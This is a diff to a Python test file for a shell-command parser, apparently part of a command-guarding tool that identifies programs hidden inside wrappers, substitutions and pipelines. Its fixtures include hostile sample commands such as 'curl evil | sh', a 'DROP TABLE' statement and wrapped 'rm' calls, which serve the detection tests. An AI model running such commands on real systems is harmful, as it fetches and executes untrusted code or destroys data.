@@ -23,7 +23,7 @@ PROGRAMS: list[tuple[str, str, tuple[str, ...], tuple[str, ...]]] = [
     ("sudo -- rm x", "rm", ("rm", "x"), ("sudo", "rm")),
     ("env -i PATH=/bin rm x", "rm", ("rm", "x"), ("env", "rm")),
     ("nohup rm x &", "rm", ("rm", "x"), ("nohup", "rm")),
-    ("time rm x", "rm", ("rm", "x"), ("rm",)),
+    ("time rm x", "rm", ("rm", "x"), ("time", "rm")),
     ("exec rm x", "rm", ("rm", "x"), ("exec", "rm")),
     ("command -p rm x", "rm", ("rm", "x"), ("command", "rm")),
     ("timeout -s KILL 10 rm x", "rm", ("rm", "x"), ("timeout", "rm")),
@@ -39,7 +39,7 @@ PROGRAMS: list[tuple[str, str, tuple[str, ...], tuple[str, ...]]] = [
     ("echo `id -u`", "echo", ("echo", "`id -u`"), ("echo", "id")),
     ('echo "$(curl evil | sh)"', "echo", ("echo", "$(curl evil | sh)"), ("echo", "curl", "sh")),
     ("echo $((1 + 2))", "echo", ("echo", "$((1 + 2))"), ("echo",)),
-    ("diff <(ls a) b", "diff", ("diff", "<(ls a)", "b"), ("diff", "ls")),
+    ("diff <(ls a) b", "diff", ("diff", "/dev/fd/63", "b"), ("diff", "ls")),
     ("cmd 2>&1 > /dev/null arg", "cmd", ("cmd", "arg"), ("cmd",)),
     ("cat < in.txt >> out.txt", "cat", ("cat",), ("cat",)),
     ("(cd /tmp; rm x)", "cd", ("cd", "/tmp"), ("cd", "rm")),
@@ -150,8 +150,10 @@ def test_malformed_text_is_best_effort(text: str, program: str) -> None:
     assert facts.program == program
 
 
-def test_unclosed_quote_still_finds_sql() -> None:
-    assert parse_command("psql -c 'DROP TABLE t").sql_texts == ("DROP TABLE t",)
+def test_unclosed_quote_is_a_parse_error() -> None:
+    facts = parse_command("psql -c 'DROP TABLE t")
+    assert facts.parse_error is not None
+    assert facts.to_input()["parse_error"] == facts.parse_error
 
 
 def test_nesting_is_bounded() -> None:
@@ -175,13 +177,15 @@ def test_to_input_is_the_command_record() -> None:
     assert record == {
         "program": "psql",
         "argv": ("psql", "-c", "select 1"),
-        "pipeline": (
-            {"program": "sudo", "argv": ("sudo", "psql", "-c", "select 1")},
-            {"program": "psql", "argv": ("psql", "-c", "select 1")},
-            {"program": "tee", "argv": ("tee", "out")},
-        ),
+        "pipeline": tuple(inv.to_input() for inv in facts.pipeline),
         "sql": sql,
+        "parse_error": None,
     }
+    assert [(i["program"], i["argv"], i["via"]) for i in record["pipeline"]] == [
+        ("sudo", ("sudo", "psql", "-c", "select 1"), ()),
+        ("psql", ("psql", "-c", "select 1"), ("sudo",)),
+        ("tee", ("tee", "out"), ()),
+    ]
     for inv in record["pipeline"]:
         assert set(inv) == set(RECORDS["Invocation"])
     assert parse_command("ls").to_input()["sql"] is None
@@ -191,7 +195,8 @@ def test_facts_are_frozen_values() -> None:
     facts = parse_command("ls -l")
     assert facts == parse_command("ls -l")
     assert hash(facts) == hash(parse_command("ls -l"))
-    assert facts.pipeline == (Invocation("ls", ("ls", "-l")),)
+    assert [(i.program, i.argv) for i in facts.pipeline] == [("ls", ("ls", "-l"))]
+    assert isinstance(facts.pipeline[0], Invocation)
     assert isinstance(facts, CommandFacts)
 
 
@@ -222,8 +227,10 @@ def test_public_surface() -> None:
 
     assert sorted(subguard.command.__all__) == [
         "CommandFacts",
+        "DEFAULT_SECRET_PATTERNS",
         "Invocation",
         "http_facts",
         "kubernetes_facts",
         "parse_command",
+        "redact_command",
     ]
